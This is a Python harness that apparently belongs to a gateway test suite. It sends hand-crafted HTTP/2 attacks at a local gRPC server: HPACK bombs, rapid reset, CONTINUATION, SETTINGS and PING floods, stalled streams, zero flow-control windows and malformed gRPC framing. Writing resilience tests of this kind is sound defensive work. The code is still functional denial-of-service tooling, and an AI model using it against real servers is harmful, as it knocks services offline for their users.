"""A raw-socket HTTP/2 attacker for test_gateway_attacks.py: hand-made frames and header
blocks (what no HTTP/2 library sends: HPACK bombs, floods, stalled partial messages,
windows never granted), against 127.0.0.1 only.

It runs as a subprocess of the test, so that its Python loops never share a GIL with the
legitimate grpcio client whose latency the test measures:

    /usr/bin/python3 h2_attacker.py ATTACK PORT DURATION_S ['{"json": "params"}']

It prints one JSON object: what the attacker saw (GOAWAY and RST_STREAM codes, gRPC
statuses, connections, bytes). Every loop is bounded in count and in time (DURATION_S and
the per-attack caps below).
"""
from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
from collections import Counter
from typing import Callable, Optional

import hpack

LOOPBACK = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DIAG = "/chroom.diag.v1.Diagnostics/"

# Frame types (RFC 9113 §6) and flags.
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS = 0x4, 0x3
H2_CANCEL = 0x8
MAX_FRAME = 16384
# The first entry of the HPACK dynamic table (RFC 7541 §2.3.3: after 61 static entries).
FIRST_DYNAMIC_INDEX = 62

# How long one blocking send or connect may take before the attacker gives up on it (a
# peer that stopped reading us is a result, not a hang).
SEND_TIMEOUT_S = 1.0


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, sid) + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text: bytes) -> bytes:
    return hpack_int(len(text), 7) + text   # no Huffman


def literal(name: str, value: str | bytes, indexed: bool = False) -> bytes:
    """A literal field with a new name: added to the dynamic table when `indexed`
    (RFC 7541 §6.2.1), else not (§6.2.2), so the table holds only what we chose."""
    raw = value if isinstance(value, bytes) else value.encode()
    return bytes([0x40 if indexed else 0x00]) + hpack_string(name.encode()) + hpack_string(raw)


def request_fields(port: int, path: str, content_type: str = "application/grpc") -> bytes:
    """A gRPC request head as literals that leave the dynamic table alone."""
    return b"".join([literal(":method", "POST"), literal(":scheme", "http"),
                     literal(":path", path), literal(":authority", f"{LOOPBACK}:{port}"),
                     literal("content-type", content_type), literal("te", "trailers")])


def grpc_message(body: bytes, flag: int = 0, announced: Optional[int] = None) -> bytes:
    return struct.pack(">BI", flag, len(body) if announced is None else announced) + body


def echo_request(text: str = "", payload: bytes = b"", repeat: int = 0, interval_ms: int = 0,
                 delay_ms: int = 0) -> bytes:
    """chroom.diag.v1.EchoRequest encoded by hand (fields 1, 2, 3, 6, 7), so the attacker
    needs no generated stubs."""
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            byte = n & 0x7F
            n >>= 7
            out.append(byte | (0x80 if n else 0))
            if not n:
                return bytes(out)

    out = bytearray()
    if payload:
        out += b"\x0a" + varint(len(payload)) + payload
    if text:
        out += b"\x12" + varint(len(text.encode())) + text.encode()
    if delay_ms:
        out += b"\x18" + varint(delay_ms)
    if repeat:
        out += b"\x30" + varint(repeat)
    if interval_ms:
        out += b"\x38" + varint(interval_ms)
    return bytes(out)


class Conn:
    """One raw HTTP/2 connection: frames out as given, frames in parsed and recorded."""

    def __init__(self, port: int, settings: Optional[dict] = None, ack_pings: bool = True,
                 ack_settings: bool = True, receive_buffer: int = 0):
        """receive_buffer: SO_RCVBUF in bytes (0: the kernel's), small for a client whose
        not reading must soon be felt by the peer."""
        self.port = port
        self.ack_settings = ack_settings
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.settimeout(3.0)
        self.sock.connect((LOOPBACK, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.ack_pings = ack_pings
        self.inbuf = bytearray()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.block: Optional[tuple] = None            # (sid, flags, bytearray) until END_HEADERS
        self.closed = False
        self.goaway: Optional[tuple] = None           # (error code, last stream id, debug text)
        self.resets: dict[int, int] = {}              # stream id -> RST_STREAM code
        self.headers: dict[int, list] = {}            # stream id -> decoded header blocks
        self.ended: set[int] = set()
        self.data_received = 0
        self.pings_received = 0
        self.settings_acked = 0
        self.bytes_sent = 0
        self.send_stalled = False
        self.remote_settings: dict[int, int] = {}
        self.conn_window = 65535                      # what we may still send on the connection
        self.stream_windows: dict[int, int] = {}
        self.next_sid = 1
        entries = b"".join(struct.pack(">HI", k, v) for k, v in (settings or {}).items())
        self.send(PREFACE + frame(SETTINGS, 0, 0, entries))

    # ---- sending
    def send(self, data: bytes, timeout: float = SEND_TIMEOUT_S) -> bool:
        """Sends all of data, or gives up after timeout (the peer stopped reading: marked
        send_stalled) or when the socket is gone (closed). Reads whatever arrives meanwhile."""
        if self.closed:
            return False
        view = memoryview(data)
        deadline = time.monotonic() + timeout
        while view:
            left = deadline - time.monotonic()
            if left <= 0:
                self.send_stalled = True
                return False
            readable, writable, _ = select.select([self.sock], [self.sock], [], min(left, 0.2))
            if readable:
                self._read_once()
                if self.closed:
                    return False
            if writable:
                try:
                    n = self.sock.send(view[:1 << 18])
                except (BlockingIOError, socket.timeout):
                    continue
                except OSError:
                    self.closed = True
                    return False
                self.bytes_sent += n
                view = view[n:]
        return True

    def open_stream(self, block: bytes, end_stream: bool = False, send: bool = True) -> int:
        """A HEADERS frame (CONTINUATIONs when the block is larger than a frame)."""
        sid = self.next_sid
        self.next_sid += 2
        self.stream_windows[sid] = self.remote_settings.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535)
        frames = headers_frames(sid, block, end_stream)
        if send:
            self.send(frames)
        return sid

    def send_data(self, sid: int, payload: bytes, end_stream: bool = False,
                  timeout: float = 5.0) -> bool:
        """DATA within the peer's flow-control windows, waiting (bounded) for WINDOW_UPDATE."""
        view = memoryview(payload)
        deadline = time.monotonic() + timeout
        while True:
            window = min(self.conn_window, self.stream_windows.get(sid, 0), MAX_FRAME * 16)
            if sid in self.resets or sid in self.ended or self.closed or self.goaway:
                return False
            if window <= 0 and view:
                if time.monotonic() > deadline or not self.poll(0.05):
                    return False
                continue
            chunk = view[:window]
            last = len(chunk) == len(view)
            out = bytearray()
            for pos in range(0, max(len(chunk), 1), MAX_FRAME):
                piece = bytes(chunk[pos:pos + MAX_FRAME])
                end = end_stream and last and pos + MAX_FRAME >= len(chunk)
                out += frame(DATA, END_STREAM if end else 0, sid, piece)
            self.conn_window -= len(chunk)
            self.stream_windows[sid] = self.stream_windows.get(sid, 0) - len(chunk)
            if not self.send(bytes(out)):
                return False
            view = view[len(chunk):]
            if last:
                return True

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass
        self.closed = True

    # ---- receiving
    def poll(self, timeout: float = 0.0) -> bool:
        """Reads once what is there (waiting up to timeout); False once the socket closed."""
        if self.closed:
            return False
        readable, _, _ = select.select([self.sock], [], [], max(timeout, 0))
        if readable:
            self._read_once()
        return not self.closed

    def wait(self, pred: Callable[[], bool], timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while not pred() and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.poll(min(left, 0.1))
        return pred()

    def _read_once(self) -> None:
        try:
            chunk = self.sock.recv(1 << 18)
        except (BlockingIOError, socket.timeout):
            return
        except OSError:
            self.closed = True
            return
        if not chunk:
            self.closed = True
            return
        self.inbuf += chunk
        replies = bytearray()
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            kind, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            replies += self._handle(kind, flags, sid, payload)
        if replies and not self.closed:
            try:
                self.sock.sendall(replies)
            except OSError:
                self.closed = True

    def _handle(self, kind: int, flags: int, sid: int, payload: bytes) -> bytes:
        if kind == SETTINGS:
            if flags & ACK:
                self.settings_acked += 1
                return b""
            for pos in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[pos:pos + 6])
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.remote_settings.get(key, 65535)
                    for s in self.stream_windows:
                        self.stream_windows[s] += delta
                self.remote_settings[key] = value
            return frame(SETTINGS, ACK, 0) if self.ack_settings else b""
        if kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
            if sid == 0:
                self.conn_window += increment
            else:
                self.stream_windows[sid] = self.stream_windows.get(sid, 0) + increment
            return b""
        if kind == RST_STREAM:
            self.resets[sid] = struct.unpack(">I", payload)[0]
            return b""
        if kind == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (code, last & 0x7FFFFFFF, payload[8:].decode("utf-8", "replace"))
            return b""
        if kind == PING:
            if flags & ACK:
                return b""
            self.pings_received += 1
            return frame(PING, ACK, 0, payload) if self.ack_pings else b""
        if kind in (HEADERS, CONTINUATION):
            if kind == HEADERS:
                fragment = payload
                if flags & PADDED:
                    fragment = fragment[1:len(fragment) - fragment[0]]
                if flags & PRIORITY_FLAG:
                    fragment = fragment[5:]
                self.block = (sid, flags, bytearray(fragment))
            elif self.block is not None:
                self.block[2].extend(payload)
            if flags & END_HEADERS and self.block is not None:
                stream, first_flags, block = self.block
                self.block = None
                try:
                    fields = self.decoder.decode(bytes(block), raw=True)
                except hpack.HPACKError as e:
                    fields = [(b"x-attacker-decode-error", repr(e).encode())]
                self.headers.setdefault(stream, []).append(
                    {bytes(k).decode("latin-1"): bytes(v).decode("latin-1") for k, v in fields})
                if first_flags & END_STREAM:
                    self.ended.add(stream)
            return b""
        if kind == DATA:
            self.data_received += len(payload)
            if flags & END_STREAM:
                self.ended.add(sid)
            return b""
        return b""

    # ---- what a stream got
    def grpc_status(self, sid: int) -> Optional[int]:
        for block in reversed(self.headers.get(sid, [])):
            if "grpc-status" in block:
                return int(block["grpc-status"])
        return None

    def grpc_message(self, sid: int) -> str:
        for block in reversed(self.headers.get(sid, [])):
            if "grpc-message" in block:
                return block["grpc-message"]
        return ""

    def finished(self, sid: int) -> bool:
        return sid in self.ended or sid in self.resets


def headers_frames(sid: int, block: bytes, end_stream: bool = False) -> bytes:
    """A header block as HEADERS + CONTINUATION frames of at most MAX_FRAME bytes."""
    pieces = [block[pos:pos + MAX_FRAME] for pos in range(0, max(len(block), 1), MAX_FRAME)]
    out = bytearray()
    for i, piece in enumerate(pieces):
        flags = (END_STREAM if end_stream and i == 0 else 0) | \
                (END_HEADERS if i == len(pieces) - 1 else 0)
        out += frame(HEADERS if i == 0 else CONTINUATION, flags, sid, piece)
    return bytes(out)


class Report:
    """What the attacker saw over all its connections, as the JSON it prints."""

    def __init__(self) -> None:
        self.connections = 0
        self.streams = 0
        self.goaways: Counter = Counter()       # GOAWAY error code -> connections
        self.goaway_debug: list[str] = []       # a few GOAWAY debug texts
        self.resets: Counter = Counter()        # RST_STREAM code -> streams
        self.statuses: Counter = Counter()      # grpc-status -> streams
        self.messages: list[str] = []           # a few grpc-messages
        self.closed_without_goaway = 0
        self.send_stalled = 0
        self.bytes_sent = 0
        self.extra: dict = {}

    def add(self, conn: Conn, sids=()) -> None:
        self.connections += 1
        self.bytes_sent += conn.bytes_sent
        self.send_stalled += int(conn.send_stalled)
        if conn.goaway is not None:
            self.goaways[conn.goaway[0]] += 1
            if len(self.goaway_debug) < 5 and conn.goaway[2] not in self.goaway_debug:
                self.goaway_debug.append(conn.goaway[2])
        elif conn.closed:
            self.closed_without_goaway += 1
        for sid in sids:
            self.streams += 1
            if sid in conn.resets:
                self.resets[conn.resets[sid]] += 1
            status = conn.grpc_status(sid)
            if status is not None:
                self.statuses[status] += 1
                message = conn.grpc_message(sid)
                if message and len(self.messages) < 5 and message not in self.messages:
                    self.messages.append(message)

    def to_json(self) -> dict:
        return {"connections": self.connections, "streams": self.streams,
                "goaways": {str(k): v for k, v in self.goaways.items()},
                "goaway_debug": self.goaway_debug,
                "resets": {str(k): v for k, v in self.resets.items()},
                "statuses": {str(k): v for k, v in self.statuses.items()},
                "messages": self.messages,
                "closed_without_goaway": self.closed_without_goaway,
                "send_stalled": self.send_stalled, "bytes_sent": self.bytes_sent,
                **self.extra}


def finish(conn: Conn, timeout: float = 1.0) -> None:
    """Reads until the peer closes or timeout: its GOAWAY and resets are what we report."""
    conn.wait(lambda: conn.closed, timeout)


# --------------------------------------------------------------------------- attacks
# Each takes (port, until: a time.monotonic() deadline, params) and returns a Report.

def hpack_bomb(port: int, until: float, p: dict) -> Report:
    """One ~4 KB header put in the dynamic table, then header blocks of ~80 KB of 1-byte
    references to it (~82,000 fields per block), repeated, on `connections` connections
    at once; a closed connection is replaced by a new one."""
    report = Report()
    value = b"b" * p.get("value_bytes", 4000)
    refs = p.get("refs", 82_000)
    max_connections = p.get("max_connections", 200)
    bomb_tail = bytes([0x80 | FIRST_DYNAMIC_INDEX]) * refs
    lanes: list[tuple[Conn, list]] = []
    blocks = 0
    opened = 0

    def new_lane() -> tuple[Conn, list]:
        conn = Conn(port)
        # A legitimate-looking first request puts the big field in the table.
        sid = conn.open_stream(request_fields(port, DIAG + "Echo") + literal("x-bomb", value, True))
        conn.send_data(sid, grpc_message(echo_request("insert")), end_stream=True)
        return conn, [sid]

    while time.monotonic() < until:
        while len(lanes) < p.get("connections", 3) and opened < max_connections:
            lanes.append(new_lane())
            opened += 1
        if not lanes:
            break
        for lane in list(lanes):
            conn, sids = lane
            if conn.closed or conn.goaway is not None:
                finish(conn, 0.2)
                report.add(conn, sids)
                conn.close()
                lanes.remove(lane)
                continue
            sid = conn.open_stream(request_fields(port, DIAG + "Echo") + bomb_tail,
                                   end_stream=True)
            sids.append(sid)
            blocks += 1
            conn.poll(0)
    # The lanes still open go on until the peer closes them (each takes a few blocks at
    # most), so that every connection's end is the peer's reaction.
    for conn, sids in lanes:
        for _ in range(p.get("last_blocks", 20)):
            if conn.closed or conn.goaway is not None:
                break
            sids.append(conn.open_stream(request_fields(port, DIAG + "Echo") + bomb_tail,
                                         end_stream=True))
            blocks += 1
            conn.poll(0.01)
        finish(conn, 0.5)
        report.add(conn, sids)
        conn.close()
    report.extra["blocks"] = blocks
    report.extra["block_bytes"] = len(request_fields(port, DIAG + "Echo")) + refs
    return report


def partial_messages(port: int, until: float, p: dict) -> Report:
    """`connections` connections each open `streams` streams, send half of a message whose
    prefix announces `message_bytes`, and stall until `until` (then vanish)."""
    report = Report()
    announced = p.get("message_bytes", 4 << 20)
    half = b"\x00" * (announced // 2)
    conns = []
    for _ in range(p.get("connections", 1)):
        conn = Conn(port)
        conn.wait(lambda: SETTINGS_INITIAL_WINDOW_SIZE in conn.remote_settings, 2.0)
        conns.append((conn, []))
    for i in range(p.get("streams", 100)):
        for conn, sids in conns:
            if time.monotonic() > until or conn.closed or conn.goaway:
                continue
            sid = conn.open_stream(request_fields(port, DIAG + "Echo"))
            sids.append(sid)
            conn.send_data(sid, grpc_message(half, announced=announced),
                           timeout=max(min(until - time.monotonic(), 5.0), 0.1))
            conn.poll(0)
    # Stall: the peer holds what it holds until we leave. Keep reading its answers.
    while time.monotonic() < until:
        for conn, _ in conns:
            conn.poll(0.05)
    for conn, sids in conns:
        conn.poll(0.1)
        report.add(conn, sids)
        report.extra.setdefault("held_streams", 0)
        report.extra["held_streams"] += sum(1 for s in sids if not conn.finished(s))
        conn.close()
    return report


def closed_windows(port: int, until: float, p: dict) -> Report:
    """Server-streaming (EchoRepeat, endless) and bidi (EchoStream) calls asking for large
    responses on connections that grant no receive window (SETTINGS_INITIAL_WINDOW_SIZE
    `window`, no WINDOW_UPDATE ever), `streams_per_connection` per connection."""
    report = Report()
    payload = b"\x5a" * p.get("payload_bytes", 1 << 20)
    conns = []
    for _ in range(p.get("connections", 2)):
        conn = Conn(port, settings={SETTINGS_INITIAL_WINDOW_SIZE: p.get("window", 0)})
        conn.wait(lambda: SETTINGS_INITIAL_WINDOW_SIZE in conn.remote_settings, 2.0)
        sids = []
        for i in range(p.get("streams_per_connection", 8)):
            if i % 2 == 0:
                sid = conn.open_stream(request_fields(port, DIAG + "EchoRepeat"))
                conn.send_data(sid, grpc_message(echo_request(f"repeat {i}", payload)),
                               end_stream=True)
            else:
                sid = conn.open_stream(request_fields(port, DIAG + "EchoStream"))
                for _ in range(p.get("bidi_requests", 10)):
                    # Requests beyond what the handler consumed wait for window: give up
                    # soon, the point is the responses.
                    if not conn.send_data(sid, grpc_message(echo_request(f"bidi {i}", payload)),
                                          timeout=0.3):
                        break
            sids.append(sid)
        conns.append((conn, sids))
    while time.monotonic() < until:
        for conn, _ in conns:
            conn.poll(0.05)
    for conn, sids in conns:
        report.add(conn, sids)
        report.extra["data_received"] = report.extra.get("data_received", 0) + conn.data_received
        conn.close()
    return report


def short_connections(port: int, until: float, p: dict) -> Report:
    """`count` connections one after another, each making one Echo call and leaving (half
    of them with GOAWAY, half by closing the socket in the middle of nothing)."""
    report = Report()
    ok = 0
    for i in range(p.get("count", 3000)):
        if time.monotonic() > until:
            break
        conn = Conn(port)
        sid = conn.open_stream(request_fields(port, DIAG + "Echo"))
        conn.send_data(sid, grpc_message(echo_request(f"short {i}")), end_stream=True)
        conn.wait(lambda: conn.finished(sid), 2.0)
        ok += conn.grpc_status(sid) == 0
        report.connections += 1
        report.bytes_sent += conn.bytes_sent
        report.streams += 1
        if i % 2 == 0:
            conn.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)), timeout=0.2)
        conn.close()
    report.statuses[0] = ok
    return report


def _reconnecting(port: int, until: float, p: dict, attack_one: Callable[[Conn], list]) -> Report:
    """Runs attack_one on a new connection until the peer closes it, again and again until
    `until` or `max_connections`."""
    report = Report()
    for _ in range(p.get("max_connections", 20)):
        if time.monotonic() > until:
            break
        try:
            conn = Conn(port, ack_pings=p.get("ack_pings", True),
                        ack_settings=p.get("ack_settings", True),
                        receive_buffer=p.get("receive_buffer", 0))
        except OSError:
            report.extra["connect_failures"] = report.extra.get("connect_failures", 0) + 1
            time.sleep(0.05)
            continue
        conn.wait(lambda: bool(conn.remote_settings), 1.0)
        sids = attack_one(conn, until)
        finish(conn, p.get("finish_s", 1.0))
        report.add(conn, sids)
        conn.close()
    return report


def rapid_reset(port: int, until: float, p: dict) -> Report:
    """HEADERS + RST_STREAM(CANCEL) at once, in batches, until the peer closes."""
    def one(conn: Conn, until: float) -> list:
        sids = []
        head = request_fields(port, DIAG + "Echo")
        while len(sids) < p.get("streams", 5000):
            batch = bytearray()
            for _ in range(50):
                sid = conn.open_stream(head, send=False)
                sids.append(sid)
                batch += headers_frames(sid, head) + frame(RST_STREAM, 0, sid,
                                                           struct.pack(">I", H2_CANCEL))
            if not conn.send(bytes(batch)) or conn.goaway:
                break
            conn.poll(0)
        return []  # streams reset by us: nothing to report per stream
    return _reconnecting(port, until, p, one)


def empty_data(port: int, until: float, p: dict) -> Report:
    """DATA frames without payload and without END_STREAM on an open stream."""
    def one(conn: Conn, until: float) -> list:
        sid = conn.open_stream(request_fields(port, DIAG + "EchoStream"))
        for _ in range(p.get("frames", 1000) // 100):
            if not conn.send(frame(DATA, 0, sid) * 100) or conn.goaway:
                break
            conn.poll(0)
        return [sid]
    return _reconnecting(port, until, p, one)


def window_update_flood(port: int, until: float, p: dict) -> Report:
    """WINDOW_UPDATE frames of 1 byte for the connection, with nothing sent to us."""
    def one(conn: Conn, until: float) -> list:
        for _ in range(p.get("frames", 5000) // 100):
            if not conn.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100) \
                    or conn.goaway:
                break
            conn.poll(0)
        return []
    return _reconnecting(port, until, p, one)


def priority_flood(port: int, until: float, p: dict) -> Report:
    """PRIORITY frames for one idle stream, over and over."""
    def one(conn: Conn, until: float) -> list:
        priority = frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 15))
        for _ in range(p.get("frames", 10000) // 100):
            if not conn.send(priority * 100) or conn.goaway:
                break
            conn.poll(0)
        return []
    return _reconnecting(port, until, p, one)


def continuation_flood(port: int, until: float, p: dict) -> Report:
    """A HEADERS frame without END_HEADERS followed by endless CONTINUATION frames, each
    with one small field (CVE-2024-27316 style), or empty ones."""
    def one(conn: Conn, until: float) -> list:
        sid = conn.open_stream(b"", send=False)
        conn.send(frame(HEADERS, END_STREAM, sid, request_fields(port, DIAG + "Echo")))
        field = b"" if p.get("empty") else literal("x-c", "v" * 100)
        for _ in range(p.get("frames", 10000) // 100):
            if not conn.send(frame(CONTINUATION, 0, sid, field) * 100) or conn.goaway:
                break
            conn.poll(0)
        return [sid]
    return _reconnecting(port, until, p, one)


def settings_flood(port: int, until: float, p: dict) -> Report:
    """SETTINGS frames (each needs an ACK) as fast as the socket takes them, 2,000 (30 KB)
    per write, so the peer's reads find more than 1,000 at once; the attacker reads only
    what arrives meanwhile."""
    def one(conn: Conn, until: float) -> list:
        settings = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_MAX_CONCURRENT_STREAMS, 100))
        sent = 0
        while sent < p.get("frames", 50000):
            if not conn.send(settings * 2000, timeout=0.5) or conn.goaway:
                break
            sent += 2000
        return []
    return _reconnecting(port, until, p, one)


def ping_flood(port: int, until: float, p: dict) -> Report:
    """PING frames (each needs an ACK) as fast as the socket takes them, never reading: the
    peer's answers pile up on our side."""
    def one(conn: Conn, until: float) -> list:
        ping = frame(PING, 0, 0, b"\x00" * 8)
        sent = 0
        while sent < p.get("frames", 100000):
            try:
                conn.sock.settimeout(0.5)
                conn.sock.sendall(ping * 500)
            except socket.timeout:
                conn.send_stalled = True
                break
            except OSError:
                conn.closed = True
                break
            conn.bytes_sent += len(ping) * 500
            sent += 500
        conn.sock.settimeout(None)
        return []
    return _reconnecting(port, until, p, one)


def stream_limit(port: int, until: float, p: dict) -> Report:
    """More streams than SETTINGS_MAX_CONCURRENT_STREAMS at once (slow Echo calls), again
    and again: after acknowledging the peer's SETTINGS, or (`ack_settings` false) racing
    them, acknowledged only once the streams are sent."""
    def one(conn: Conn, until: float) -> list:
        if conn.ack_settings:
            conn.wait(lambda: conn.settings_acked > 0, 1.0)
        limit = conn.remote_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, 100)
        body = grpc_message(echo_request("slow", delay_ms=p.get("delay_ms", 300)))
        head = request_fields(port, DIAG + "Echo")
        batch = bytearray()
        sids = []
        for _ in range(limit + p.get("extra", 50)):
            sid = conn.open_stream(head, send=False)
            sids.append(sid)
            batch += headers_frames(sid, head) + frame(DATA, END_STREAM, sid, body)
        conn.send(bytes(batch))
        if not conn.ack_settings:
            conn.ack_settings = True
            conn.send(frame(SETTINGS, ACK, 0))
        conn.wait(lambda: all(conn.finished(s) for s in sids), 3.0)
        return sids
    return _reconnecting(port, until, p, one)


def malformed_grpc(port: int, until: float, p: dict) -> Report:
    """Streams with broken gRPC framing: a bad flag byte, a compressed flag without
    grpc-encoding, a prefix cut short, a body cut short, undecodable protobuf, a 4 GiB
    length prefix (kinds chosen by `kinds`)."""
    kinds = p.get("kinds", ["bad_flag", "compressed", "short_prefix", "short_body",
                            "bad_protobuf", "huge_prefix"])
    bodies = {
        "bad_flag": grpc_message(echo_request("x"), flag=2),
        "compressed": grpc_message(echo_request("x"), flag=1),
        "short_prefix": b"\x00\x00\x00",
        "short_body": grpc_message(b"\x12\x05ab", announced=100),
        "bad_protobuf": grpc_message(b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01"),
        "huge_prefix": struct.pack(">BI", 0, 0xFFFFFFFF) + b"\x00" * 1000,
    }
    per_kind: dict[str, Counter] = {k: Counter() for k in kinds}

    def one(conn: Conn, until: float) -> list:
        sids = []
        head = request_fields(port, DIAG + "Echo")
        while len(sids) < p.get("streams", 2000) and time.monotonic() < until and not conn.goaway:
            batch, wave = bytearray(), []
            for i in range(40):
                kind = kinds[(len(sids) + i) % len(kinds)]
                sid = conn.open_stream(head, send=False)
                wave.append((sid, kind))
                batch += headers_frames(sid, head) + frame(DATA, END_STREAM, sid, bodies[kind])
            if not conn.send(bytes(batch)):
                break
            conn.wait(lambda: all(conn.finished(s) for s, _ in wave), 3.0)
            for sid, kind in wave:
                status = conn.grpc_status(sid)
                per_kind[kind]["none" if status is None else str(status)] += 1
                sids.append(sid)
        return sids
    report = _reconnecting(port, until, p, one)
    report.extra["per_kind"] = {k: dict(v) for k, v in per_kind.items()}
    return report


def many_headers(port: int, until: float, p: dict) -> Report:
    """Requests with `fields` header fields each (one-byte references to one small field
    in the dynamic table: 10,000 fields in a 10 KB block), again and again."""
    def one(conn: Conn, until: float) -> list:
        sid = conn.open_stream(request_fields(port, DIAG + "Echo") + literal("x-a", "b", True))
        conn.send_data(sid, grpc_message(echo_request("insert")), end_stream=True)
        sids = [sid]
        block = request_fields(port, DIAG + "Echo") + \
            bytes([0x80 | FIRST_DYNAMIC_INDEX]) * p.get("fields", 10_000)
        while len(sids) < p.get("streams", 100):
            if conn.goaway or conn.closed:
                break
            sid = conn.open_stream(block, end_stream=True)
            sids.append(sid)
            conn.wait(lambda: conn.finished(sid) or bool(conn.goaway), 1.0)
        return sids
    return _reconnecting(port, until, p, one)


ATTACKS = {
    "hpack_bomb": hpack_bomb, "partial_messages": partial_messages,
    "closed_windows": closed_windows, "short_connections": short_connections,
    "rapid_reset": rapid_reset, "empty_data": empty_data,
    "window_update_flood": window_update_flood, "priority_flood": priority_flood,
    "continuation_flood": continuation_flood, "settings_flood": settings_flood,
    "ping_flood": ping_flood, "stream_limit": stream_limit,
    "malformed_grpc": malformed_grpc, "many_headers": many_headers,
}


def main(argv: list[str]) -> int:
    if len(argv) < 4 or argv[1] not in ATTACKS:
        print(f"usage: {argv[0]} {{{','.join(ATTACKS)}}} PORT DURATION_S [JSON]", file=sys.stderr)
        return 2
    port, duration = int(argv[2]), float(argv[3])
    params = json.loads(argv[4]) if len(argv) > 4 else {}
    started = time.monotonic()
    report = ATTACKS[argv[1]](port, started + duration, params)
    out = report.to_json()
    out["attack"] = argv[1]
    out["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
